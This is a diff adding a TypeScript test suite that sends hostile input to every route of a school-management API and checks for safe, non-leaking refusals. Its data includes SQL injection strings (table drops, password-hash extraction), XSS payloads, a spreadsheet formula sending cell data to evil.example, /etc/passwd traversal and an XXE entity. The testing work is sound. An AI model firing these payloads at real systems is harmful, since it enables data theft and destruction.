@@ -1,0 +1,267 @@
+import { afterAll, beforeEach, describe, expect, it } from 'vitest';
+import { F } from '../../test/fixture-ids.js';
+import { type Session, setupTestApp } from '../../test/harness.js';
+import { TARGET, type Who, expectedByDeclaration, fillPath } from '../../test/route-targets.js';
+import { inputJsonSchema, sampleFor, stringLeaves, withLeaf } from '../../test/sample-input.js';
+import type { DeclaredRoute } from './security-plugin.js';
+
+/**
+ * The hostile-input suite, generated from the route table like the access matrix: every route
+ * that takes a JSON body or a query string gets, in every string field, each string of the
+ * corpora below, sent by a caller who is allowed to use the route (so the input reaches
+ * validation, the services and the database, not just the permission check). A route added
+ * later is covered without touching this file.
+ *
+ * Every answer must be: not 5xx; if refused, problem+json with a Vietnamese `detail`; free of
+ * database error text and stack traces; quick (a time-based injection would show). Afterwards
+ * the database still has every table and its rows.
+ */
+
+// OWASP testing guide / sqlmap style probes: tautologies, stacked queries, UNION extraction,
+// time-based blind, comment and quote-breaking, PostgreSQL dollar quoting and casts.
+export const SQL_INJECTION = [
+  "' OR '1'='1",
+  "'; DROP TABLE student; --",
+  "1'; SELECT pg_sleep(3); --",
+  "' UNION SELECT username, password_hash FROM app_user --",
+  "') OR 1=1 --",
+  '" OR ""="',
+  '$$; DROP TABLE app_user; $$',
+  "1 AND 1=CAST((SELECT password_hash FROM app_user LIMIT 1) AS int)",
+  "\\'; --",
+  '%',
+  '_',
+];
+// OWASP XSS filter-evasion cheat sheet classics: tag injection, attribute break-out, javascript:
+// URLs, template injection for client frameworks, and spreadsheet formulas (CSV injection).
+export const XSS = [
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(document.cookie)</script>',
+  '"><svg onload=alert(1)>',
+  "javascript:alert('x')",
+  '{{constructor.constructor("alert(1)")()}}',
+  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+];
+// Unicode and control edge cases: decomposed Vietnamese (NFD), zero-width and bidi controls,
+// NUL (PostgreSQL cannot store it), a lone surrogate, emoji, 10,000 characters.
+export const UNICODE = [
+  'Nguye\u0302\u0303n Va\u0306n A\u0300nh',
+  'Ng\u200Buy\u200Dễn\uFEFF',
+  '\u202Egnp.exe',
+  'a\u0000b',
+  '\uD800',
+  '👩‍🎓🇻🇳',
+  'x'.repeat(10_000),
+];
+const CORPUS = [...SQL_INJECTION, ...XSS, ...UNICODE];
+
+/** Answers that betray the database or the code behind it. */
+const LEAK_RE = /syntax error|relation "|column "|SQLSTATE|pg_catalog|at character \d|\bat [\w.<>]+ \(|\.ts:\d+|node_modules|password_hash|\$argon2/i;
+
+const ctx = await setupTestApp();
+
+// Routes that would end the sessions this file runs on; login gets its own cases.
+const SKIPPED = new Set(['/api/v1/auth/logout', '/api/v1/auth/change-password']);
+const CALLER_PREFERENCE: Who[] = ['principalA1', 'admin', 'soA', 'communeA', 'homeroomA1', 'staffA1', 'mathA1', 'parentA', 'studentAn'];
+
+const sessions = new Map<Who, Session>();
+async function session(who: Who): Promise<Session> {
+  let s = sessions.get(who);
+  if (!s) sessions.set(who, (s = await ctx.as(who)));
+  return s;
+}
+
+/** The first account that may call the route on school A1 (null: public route). */
+function callerFor(route: DeclaredRoute): Who | null {
+  if (route.permission.access === 'public') return null;
+  const who = CALLER_PREFERENCE.find((w) => expectedByDeclaration(route.permission, w, 'A') === 'allow');
+  if (!who) throw new Error(`no fixture account may call ${route.method} ${route.url}`);
+  return who;
+}
+
+async function send(route: DeclaredRoute, opts: { body?: unknown; query?: Record<string, unknown>; rawBody?: string }) {
+  const who = callerFor(route);
+  const s = who ? await session(who) : null;
+  const headers: Record<string, string> = s ? { cookie: s.cookie, 'x-csrf-token': s.csrf } : {};
+  let url = fillPath(route.url, 'A');
+  if (opts.query) {
+    const q = new URLSearchParams();
+    for (const [k, v] of Object.entries(opts.query)) if (v !== undefined && v !== null) q.set(k, String(v));
+    url += `?${q}`;
+  }
+  const payload = opts.rawBody ?? (opts.body === undefined ? undefined : JSON.stringify(opts.body));
+  if (payload !== undefined) headers['content-type'] = 'application/json';
+  const t0 = performance.now();
+  const res = await ctx.app.inject({ method: route.method as 'POST', url, headers, payload });
+  return { res, ms: performance.now() - t0 };
+}
+
+const failures: string[] = [];
+beforeEach(() => {
+  failures.length = 0;
+});
+function check(where: string, res: { statusCode: number; body: string; headers: Record<string, unknown> }, ms: number) {
+  if (res.statusCode >= 500) failures.push(`${where}: ${res.statusCode} ${res.body.slice(0, 200)}`);
+  if (res.statusCode >= 400) {
+    if (!String(res.headers['content-type']).includes('application/problem+json')) failures.push(`${where}: ${res.statusCode} not problem+json`);
+    else {
+      const detail = (JSON.parse(res.body) as { detail?: unknown }).detail;
+      if (typeof detail !== 'string' || !/[àáảãạăâđèéêìíòóôơùúưỳý]/i.test(detail)) failures.push(`${where}: detail not Vietnamese: ${String(detail)}`);
+    }
+  }
+  if (LEAK_RE.test(res.body)) failures.push(`${where}: leaks internals: ${res.body.match(LEAK_RE)?.[0]}`);
+  if (ms > 2500) failures.push(`${where}: took ${Math.round(ms)} ms`);
+}
+
+const bodyRoutes = () => ctx.app.declaredRoutes.filter((r) => !SKIPPED.has(r.url) && inputJsonSchema(r.body));
+const queryRoutes = () => ctx.app.declaredRoutes.filter((r) => !SKIPPED.has(r.url) && inputJsonSchema(r.querystring));
+const KNOWN = { ...TARGET.A, toClassId: F.class6A2, toSchoolId: F.schoolA2, targetId: F.schoolA2, newParentId: F.communeA1 };
+
+let requests = 0;
+const fieldsSeen = new Set<string>();
+
+async function tableCounts(): Promise<Map<string, number>> {
+  const tables = await ctx.handle.db
+    .selectFrom('information_schema.tables' as never)
+    .select('table_name' as never)
+    .where('table_schema' as never, '=', 'public' as never)
+    .execute();
+  const out = new Map<string, number>();
+  for (const t of tables as { table_name: string }[]) {
+    const row = await ctx.handle.pool.query<{ n: string }>(`select count(*) as n from "${t.table_name}"`);
+    out.set(t.table_name, Number(row.rows[0]!.n));
+  }
+  return out;
+}
+const before = await tableCounts();
+
+afterAll(() => {
+  console.log(
+    `hostile input: ${requests} requests — ${CORPUS.length} strings (${SQL_INJECTION.length} SQL injection, ${XSS.length} XSS/formula, ${UNICODE.length} Unicode) ` +
+      `in ${fieldsSeen.size} string fields of ${bodyRoutes().length} body and ${queryRoutes().length} query-string routes, plus type, size and depth attacks on every body route`,
+  );
+});
+
+describe('hostile strings in every string field of every route', () => {
+  it('JSON bodies: never 5xx, refusals are Vietnamese problem+json, nothing leaks, nothing is slow', async () => {
+    for (const route of bodyRoutes()) {
+      const schema = inputJsonSchema(route.body)!;
+      const base = sampleFor(schema, '', KNOWN);
+      for (const leaf of stringLeaves(base)) {
+        fieldsSeen.add(`${route.method} ${route.url} ${leaf.join('.')}`);
+        for (const payload of CORPUS) {
+          const { res, ms } = await send(route, { body: withLeaf(base, leaf, payload) });
+          requests++;
+          check(`${route.method} ${route.url} ${leaf.join('.')}=${JSON.stringify(payload).slice(0, 40)}`, res, ms);
+        }
+      }
+    }
+    expect(failures).toEqual([]);
+    expect(fieldsSeen.size).toBeGreaterThan(40);
+  });
+
+  it('query strings: the same for every query parameter', async () => {
+    for (const route of queryRoutes()) {
+      const schema = inputJsonSchema(route.querystring)!;
+      for (const name of Object.keys(schema.properties ?? {})) {
+        fieldsSeen.add(`${route.method} ${route.url} ?${name}`);
+        for (const payload of CORPUS) {
+          const { res, ms } = await send(route, { query: { [name]: payload } });
+          requests++;
+          check(`${route.method} ${route.url} ?${name}=${JSON.stringify(payload).slice(0, 40)}`, res, ms);
+        }
+      }
+    }
+    expect(failures).toEqual([]);
+  });
+
+  it('path parameters: hostile ids are a plain 404 or 400', async () => {
+    for (const route of ctx.app.declaredRoutes.filter((r) => r.url.includes(':') && !SKIPPED.has(r.url))) {
+      for (const payload of [...SQL_INJECTION.slice(0, 4), '../../../etc/passwd', '%00', '<script>']) {
+        const url = fillPath(route.url, 'A').replace(TARGET.A[route.url.match(/:(\w+)$/)?.[1] ?? 'x'] ?? '\u0000', encodeURIComponent(payload));
+        const r = { ...route, url };
+        const { res, ms } = await send(r, route.method === 'GET' || route.method === 'DELETE' ? {} : { body: {} });
+        requests++;
+        check(`${route.method} ${url}`, res, ms);
+        expect(res.body).not.toContain('root:x:0:0');
+      }
+    }
+    expect(failures).toEqual([]);
+  });
+
+  it('afterwards every table is still there, and no table lost rows', async () => {
+    const after = await tableCounts();
+    expect([...after.keys()].sort()).toEqual([...before.keys()].sort());
+    const shrunk = [...before].filter(([t, n]) => (after.get(t) ?? 0) < n && !['session'].includes(t));
+    expect(shrunk).toEqual([]);
+    const admin = await ctx.handle.db.selectFrom('app_user').select('password_hash').where('username', '=', 'admin').executeTakeFirstOrThrow();
+    expect(admin.password_hash).toMatch(/^\$argon2id\$/);
+  });
+});
+
+describe('wrong shapes, sizes and depths on every JSON body route', () => {
+  it('a body of the wrong JSON type, or fields of the wrong type, get 400 with a Vietnamese message', async () => {
+    for (const route of bodyRoutes()) {
+      const base = sampleFor(inputJsonSchema(route.body)!, '', KNOWN);
+      const shapes: unknown[] = [[], 'chuỗi', 42, null, true];
+      for (const leaf of stringLeaves(base)) shapes.push(withLeaf(base, leaf, 12345), withLeaf(base, leaf, { $gt: '' }), withLeaf(base, leaf, ['a']));
+      for (const body of shapes) {
+        const { res, ms } = await send(route, { rawBody: JSON.stringify(body) });
+        requests++;
+        const where = `${route.method} ${route.url} body=${JSON.stringify(body).slice(0, 60)}`;
+        check(where, res, ms);
+        // Some routes take all-optional bodies, so a stray field type may be ignored — never a crash.
+        // A route whose target unit is named in the body answers 404 when the body names none
+        // (access is decided before validation, see security-plugin.ts).
+        const refused = route.permission.access === 'resolve' ? [400, 404] : [400];
+        if ((Array.isArray(body) || typeof body !== 'object' || body === null) && !refused.includes(res.statusCode)) {
+          failures.push(`${where}: ${res.statusCode}, expected ${refused.join(' or ')}`);
+        }
+      }
+    }
+    expect(failures).toEqual([]);
+  });
+
+  it('a body over 1 MB is refused with 413 before it is parsed', async () => {
+    for (const route of bodyRoutes()) {
+      const { res, ms } = await send(route, { rawBody: JSON.stringify({ fullName: 'x'.repeat(1024 * 1024 + 10) }) });
+      requests++;
+      check(`${route.method} ${route.url} 1 MB`, res, ms);
+      expect(res.statusCode, `${route.method} ${route.url}`).toBe(413);
+    }
+    expect(failures).toEqual([]);
+  });
+
+  it('JSON nested 100,000 deep, or just past the 32-level limit, gets 400 (no stack overflow)', async () => {
+    const route = bodyRoutes().find((r) => r.url.endsWith('/students') && r.method === 'POST')!;
+    for (const depth of [33, 100_000]) {
+      const { res, ms } = await send(route, { rawBody: `${'['.repeat(depth)}${']'.repeat(depth)}` });
+      requests++;
+      check(`deep ${depth}`, res, ms);
+      expect(res.statusCode).toBe(400);
+    }
+    const nested = await send(route, { rawBody: JSON.stringify({ guardians: [{ fullName: { a: { b: { c: {} } } } }] }) });
+    expect(nested.res.statusCode).toBe(400);
+    expect(failures).toEqual([]);
+  });
+
+  it('malformed JSON and a wrong content type are refused in Vietnamese', async () => {
+    const route = bodyRoutes().find((r) => r.url.endsWith('/students') && r.method === 'POST')!;
+    for (const raw of ['{"fullName": ', '{fullName: 1}', '\u0000', '{"a":1}{"b":2}']) {
+      const { res, ms } = await send(route, { rawBody: raw });
+      requests++;
+      check(`malformed ${JSON.stringify(raw)}`, res, ms);
+      expect(res.statusCode).toBe(400);
+    }
+    const s = await session('principalA1');
+    const xml = await ctx.app.inject({
+      method: 'POST',
+      url: fillPath(route.url, 'A'),
+      headers: { cookie: s.cookie, 'x-csrf-token': s.csrf, 'content-type': 'application/xml' },
+      payload: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+    });
+    check('xml body', xml, 0);
+    expect(xml.statusCode).toBe(415);
+    expect(failures).toEqual([]);
+  });
+});
